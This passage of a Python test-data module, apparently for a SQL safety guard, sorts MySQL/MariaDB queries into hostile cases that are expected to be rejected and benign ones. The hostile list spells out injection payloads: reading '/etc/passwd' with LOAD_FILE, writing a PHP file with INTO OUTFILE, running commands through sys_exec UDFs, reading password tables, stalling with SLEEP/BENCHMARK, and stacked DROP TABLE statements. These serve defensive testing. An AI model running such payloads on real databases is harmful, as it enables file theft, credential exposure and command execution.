        "WITH t AS (SELECT CAST(amount AS INTEGER) AS a FROM orders) SELECT sum(a) AS s FROM t",
        "ok",
    ),
    _c("cast", "SELECT region FROM orders WHERE CAST(id AS TEXT) LIKE '1%'", "ok"),
    _c("cast", "SELECT x::int AS n FROM generate_series(1, 3) AS g(x)", "ok", *PG_DUCK),
    _c("cast", "SELECT DATE '2024-01-01' AS d", "ok", *PG_DUCK),
    _c("cast", "SELECT id FROM orders WHERE region::text = 'north'", "ok", *PG_DUCK),
]


NOT_ON_MYSQL: dict[str, str] = {
    'SELECT "password" FROM customers': "a string in MySQL; MYSQL_HOSTILE has `password`",
    "SELECT id FROM orders LIMIT ALL": "LIMIT ALL is not MySQL syntax",
    "SELECT id FROM orders ORDER BY id LIMIT ALL OFFSET 5": "LIMIT ALL is not MySQL syntax",
    "SELECT id FROM orders WHERE id IN (SELECT id FROM orders ORDER BY amount LIMIT 3)": (
        "MariaDB does not run LIMIT in an IN subquery"
    ),
    'SELECT "id", "amount" FROM "orders" WHERE "id" < 3': "double quotes are strings in MySQL",
    'SELECT "地区" FROM "销售" WHERE "金额" > 60 ORDER BY "金额"': "strings in MySQL",
}
"""Cases for every engine that do not apply to MySQL/MariaDB, and why."""

MYSQL = ("mysql",)
MYSQL_WRITE = WRITE | {"select_into", "locking_clause"}
MYSQL_VAR = frozenset({"parameter", "not_read_only"})

MYSQL_HOSTILE: list[Case] = [
    # -- files: LOAD_FILE, INTO OUTFILE/DUMPFILE, LOAD DATA ---------------------------------
    _c("file", "SELECT LOAD_FILE('/etc/passwd') AS f", FUNC, *MYSQL),
    _c("file", "SELECT load_file(0x2f6574632f706173737764) AS f", FUNC, *MYSQL),
    _c("file", "SELECT id FROM orders INTO OUTFILE '/tmp/x.csv'", MYSQL_WRITE, *MYSQL),
    _c("file", "SELECT id INTO DUMPFILE '/tmp/x.bin' FROM orders", MYSQL_WRITE, *MYSQL),
    _c("file", "SELECT name FROM customers INTO OUTFILE '/var/www/x.php'", MYSQL_WRITE, *MYSQL),
    _c("file", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders", WRITE, *MYSQL),
    _c("file", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE orders", WRITE, *MYSQL),
    _c("file", "SELECT * FROM orders PROCEDURE ANALYSE()", WRITE, *MYSQL),
    # -- stalling the server and holding locks ---------------------------------------------
    _c("dos", "SELECT SLEEP(5) AS s", FUNC, *MYSQL),
    _c("dos", "SELECT id FROM orders WHERE SLEEP(1) = 0", FUNC, *MYSQL),
    _c("dos", "SELECT BENCHMARK(100000000, MD5('a')) AS b", FUNC, *MYSQL),
    _c("dos", "SELECT GET_LOCK('tablerag', 10) AS l", FUNC, *MYSQL),
    _c("dos", "SELECT RELEASE_LOCK('tablerag') AS l", FUNC, *MYSQL),
    _c("dos", "SELECT RELEASE_ALL_LOCKS() AS l", FUNC, *MYSQL),
    _c("dos", "SELECT IS_FREE_LOCK('tablerag') AS l", FUNC, *MYSQL),
    _c("dos", "SELECT IS_USED_LOCK('tablerag') AS l", FUNC, *MYSQL),
    _c("dos", "SELECT MASTER_POS_WAIT('log.000001', 4) AS w", FUNC, *MYSQL),
    _c("dos", "SELECT id FROM orders FOR UPDATE", MYSQL_WRITE, *MYSQL),
    _c("dos", "SELECT id FROM orders LOCK IN SHARE MODE", MYSQL_WRITE, *MYSQL),
    _c("dos", "LOCK TABLES orders READ", WRITE, *MYSQL),
    _c("dos", "UNLOCK TABLES", WRITE, *MYSQL),
    _c("dos", "DO SLEEP(10)", WRITE, *MYSQL),
    _c("dos", "KILL 1", WRITE, *MYSQL),
    # -- user variables and system variables -----------------------------------------------
    _c("vars", "SELECT @a := 1 AS a", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT id FROM orders WHERE (@n := id) > 0", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT @a AS a", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT @`a` AS a", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT @@version AS v", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT @@global.secure_file_priv AS p", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT @@datadir AS d", MYSQL_VAR, *MYSQL),
    _c("vars", "SELECT id INTO @a FROM orders LIMIT 1", MYSQL_WRITE, *MYSQL),
    _c("vars", "SET @a = 1", WRITE, *MYSQL),
    _c("vars", "SET SESSION max_statement_time = 0", WRITE, *MYSQL),
    _c("vars", "SET max_execution_time = 0", WRITE, *MYSQL),
    _c("vars", "SET sql_mode = 'ANSI_QUOTES'", WRITE, *MYSQL),
    _c("vars", "SET GLOBAL general_log = 1", WRITE, *MYSQL),
    _c("vars", "SET NAMES latin1", WRITE, *MYSQL),
    _c("vars", "SET TRANSACTION READ WRITE", WRITE, *MYSQL),
    _c("vars", "SET STATEMENT max_statement_time = 0 FOR SELECT id FROM orders", WRITE, *MYSQL),
    # -- statements that are not a query -----------------------------------------------------
    _c("write", "HANDLER orders OPEN", WRITE, *MYSQL),
    _c("write", "HANDLER orders READ FIRST", WRITE, *MYSQL),
    _c("write", "REPLACE INTO orders (id) VALUES (1)", WRITE, *MYSQL),
    _c("write", "INSERT IGNORE INTO orders (id) VALUES (1)", WRITE, *MYSQL),
    _c("write", "TRUNCATE orders", WRITE, *MYSQL),
    _c("write", "RENAME TABLE orders TO o2", WRITE, *MYSQL),
    _c("write", "OPTIMIZE TABLE orders", WRITE, *MYSQL),
    _c("write", "FLUSH TABLES", WRITE, *MYSQL),
    _c("write", "CALL evil()", WRITE, *MYSQL),
    _c("write", "PREPARE s FROM 'DELETE FROM orders'", WRITE, *MYSQL),
    _c("write", "EXECUTE s", WRITE, *MYSQL),
    _c("write", "START TRANSACTION READ WRITE", WRITE, *MYSQL),
    _c("write", "COMMIT", WRITE, *MYSQL),
    _c("write", "XA START 'x'", WRITE, *MYSQL),
    _c("write", "GRANT ALL ON *.* TO 'tr_reader'@'%'", WRITE, *MYSQL),
    _c("write", "INSTALL PLUGIN evil SONAME 'evil.so'", WRITE, *MYSQL),
    _c("write", "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'", WRITE, *MYSQL),
    _c("write", "SHOW GRANTS", WRITE, *MYSQL),
    _c("write", "SHOW DATABASES", WRITE, *MYSQL),
    _c("write", "SHOW PROCESSLIST", WRITE, *MYSQL),
    _c("write", "DESCRIBE customers", WRITE, *MYSQL),
    _c("write", "EXPLAIN SELECT id FROM orders", WRITE, *MYSQL),
    # -- user-defined and stored functions -----------------------------------------------
    _c("udf", "SELECT my_udf(1) AS x", FUNC, *MYSQL),
    _c("udf", "SELECT sys_exec('id') AS x", FUNC, *MYSQL),
    _c("udf", "SELECT sys_eval('cat /etc/passwd') AS x", FUNC, *MYSQL),
    _c("udf", "SELECT tablerag_sql_shop.left(region, 1) AS x FROM orders", FUNC, *MYSQL),
    _c("udf", "SELECT tablerag_sql_shop.upper(region) AS x FROM orders", FUNC, *MYSQL),
    _c("udf", "SELECT mysql.evil(1) AS x", FUNC, *MYSQL),
    _c("udf", "SELECT NEXTVAL(s) AS n", FUNC, *MYSQL),
    _c("udf", "SELECT SETVAL(s, 1) AS n", FUNC, *MYSQL),
    _c("udf", "SELECT NEXT VALUE FOR s AS n", FUNC | {"parse_error"}, *MYSQL),
    # -- system schemas and other databases ----------------------------------------------
    _c("catalog", "SELECT * FROM mysql.user", TABLE, *MYSQL),
    _c("catalog", "SELECT User, Password FROM mysql.user", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM mysql.global_priv", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM information_schema.processlist", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM information_schema.user_privileges", TABLE, *MYSQL),
    _c(
        "catalog",
        "SELECT table_name FROM information_schema.columns WHERE column_name = 'secret'",
        TABLE,
        *MYSQL,
    ),
    _c("catalog", "SELECT * FROM INFORMATION_SCHEMA.TABLES", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM `information_schema`.`schemata`", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM performance_schema.threads", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM sys.processlist", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM tablerag_sql_shop.secrets", TABLE, *MYSQL),
    _c("catalog", "SELECT * FROM `secrets`", TABLE, *MYSQL),
    _c("catalog", "SELECT id FROM other_db.orders", TABLE, *MYSQL),
    _c(
        "catalog", "SELECT o.id FROM orders o JOIN mysql.user u ON u.User = o.region", TABLE, *MYSQL
    ),
    # -- who and where the server is -------------------------------------------------------
    _c("identity", "SELECT USER() AS u", FUNC, *MYSQL),
    _c("identity", "SELECT CURRENT_USER() AS u", FUNC, *MYSQL),
    _c("identity", "SELECT SYSTEM_USER() AS u", FUNC, *MYSQL),
    _c("identity", "SELECT DATABASE() AS d", FUNC, *MYSQL),
    _c("identity", "SELECT SCHEMA() AS d", FUNC, *MYSQL),
    _c("identity", "SELECT VERSION() AS v", FUNC, *MYSQL),
    _c("identity", "SELECT CONNECTION_ID() AS c", FUNC, *MYSQL),
    _c("identity", "SELECT LAST_INSERT_ID() AS l", FUNC, *MYSQL),
    _c("identity", "SELECT FOUND_ROWS() AS f", FUNC, *MYSQL),
    _c("identity", "SELECT ROW_COUNT() AS r", FUNC, *MYSQL),
    # -- error-based extraction -------------------------------------------------------------
    _c(
        "inject",
        "SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT name FROM customers LIMIT 1))) AS x",
        FUNC,
        *MYSQL,
    ),
    _c("inject", "SELECT UPDATEXML(1, CONCAT(0x7e, 'x'), 1) AS x", FUNC, *MYSQL),
    _c("inject", "SELECT NAME_CONST('a', 1) AS x", FUNC, *MYSQL),
    _c("inject", "SELECT id FROM orders WHERE region = 'x' # \n; DROP TABLE orders", MULTI, *MYSQL),
    _c("inject", "SELECT id FROM orders WHERE region = 'a\\'; DROP TABLE orders", MULTI, *MYSQL),
    # -- hidden columns in MySQL quoting -------------------------------------------------
    _c("hidden", "SELECT `password` FROM customers", HIDDEN, *MYSQL),
    _c("hidden", "SELECT `PassWord` FROM customers", HIDDEN, *MYSQL),
    _c("hidden", "SELECT c.`email` FROM customers c", HIDDEN, *MYSQL),
    _c("hidden", "SELECT GROUP_CONCAT(phone) AS p FROM customers", HIDDEN, *MYSQL),
    _c("hidden", "SELECT CONCAT(name, email) AS x FROM customers", HIDDEN, *MYSQL),
]
"""MySQL/MariaDB payloads."""

MYSQL_BENIGN: list[Case] = [
    _c("quoted", "SELECT `id`, `amount` FROM `orders` WHERE `id` < 3", "ok", *MYSQL),
    _c("quoted", "SELECT `地区` FROM `销售` WHERE `金额` > 60 ORDER BY `金额`", "ok", *MYSQL),
    _c("quoted", "SELECT count(id) AS `select`, max(amount) AS `from` FROM orders", "ok", *MYSQL),
    _c("strings", 'SELECT id FROM orders WHERE region = "north"', "ok", *MYSQL),
    _c(
        "strings",
        "SELECT id FROM orders WHERE region = 'a\\'; DROP TABLE orders; -- '",
        "ok",
        *MYSQL,
    ),
    _c("strings", "SELECT 'x\\\\' AS a, id FROM orders", "ok", *MYSQL),
    _c(
        "strings",
        "SELECT CONCAT(region, '-', id) AS k, left(region, 2) AS l FROM orders",
        "ok",
        *MYSQL,
    ),
    _c(
        "strings",
        "SELECT GROUP_CONCAT(DISTINCT region ORDER BY region SEPARATOR ',') AS r FROM orders",
        "ok",
        *MYSQL,
    ),
    _c("strings", "SELECT region || 'x' AS r FROM orders", "ok", *MYSQL),
    _c(
        "dates",
        "SELECT DATE_FORMAT(order_date, '%Y-%m') AS m, count(*) AS n FROM orders GROUP BY m",
        "ok",
        *MYSQL,
    ),
    _c(
        "dates",
        "SELECT id FROM orders WHERE order_date >= DATE_SUB(CURDATE(), INTERVAL 1 MONTH)",
        "ok",
        *MYSQL,
    ),
    _c("dates", "SELECT YEAR(order_date) AS y, MONTH(order_date) AS m FROM orders", "ok", *MYSQL),
    _c(
        "dates",
        "SELECT TIMESTAMPDIFF(DAY, order_date, '2024-12-31') AS d FROM orders",
        "ok",
        *MYSQL,
    ),
    _c("dates", "SELECT STR_TO_DATE('2024-01-01', '%Y-%m-%d') AS d, NOW() AS t", "ok", *MYSQL),
    _c(
        "dates",
        "SELECT LAST_DAY(order_date) AS d, DAYNAME(order_date) AS n FROM orders",
        "ok",
        *MYSQL,
    ),
    _c(
        "misc",
        "SELECT IF(amount > 50, 'big', 'small') AS s, IFNULL(region, '-') AS r FROM orders",
        "ok",
        *MYSQL,
    ),
    _c("misc", "SELECT id FROM orders ORDER BY id LIMIT 5, 10", "ok", *MYSQL),
    _c(
        "misc",
        "SELECT CAST(amount AS SIGNED) AS a, CAST(id AS CHAR) AS t FROM orders",
        "ok",
        *MYSQL,
    ),
    _c(
        "misc",
        "SELECT id FROM orders /*!50000 UNION SELECT password FROM customers */",
        "ok",
        *MYSQL,
    ),
    _c("misc", "select ID from ORDERS where Region = 'north'", "ok", *MYSQL),
]
"""MySQL/MariaDB spellings that must run."""


def _on_mysql(cases: list[Case]) -> list[Case]:
    return [
        replace(c, engines=(*c.engines, "mysql"))
        if c.engines == ALL and c.sql not in NOT_ON_MYSQL
        else c
        for c in cases
    ]


def _merged(cases: list[Case], more: list[Case]) -> list[Case]:
    """``cases`` with ``more`` added; a MySQL case whose SQL is already there adds its engine."""
    out = list(cases)
    where = {c.sql: i for i, c in enumerate(out)}
    for case in more:
        if case.sql in where:
            old = out[where[case.sql]]
            engines = (*old.engines, *(e for e in case.engines if e not in old.engines))
            out[where[case.sql]] = replace(old, engines=engines)
        else:
            where[case.sql] = len(out)
            out.append(case)
    return out


HOSTILE = _merged(_on_mysql(HOSTILE), MYSQL_HOSTILE)
BENIGN = _merged(_on_mysql(BENIGN), MYSQL_BENIGN)
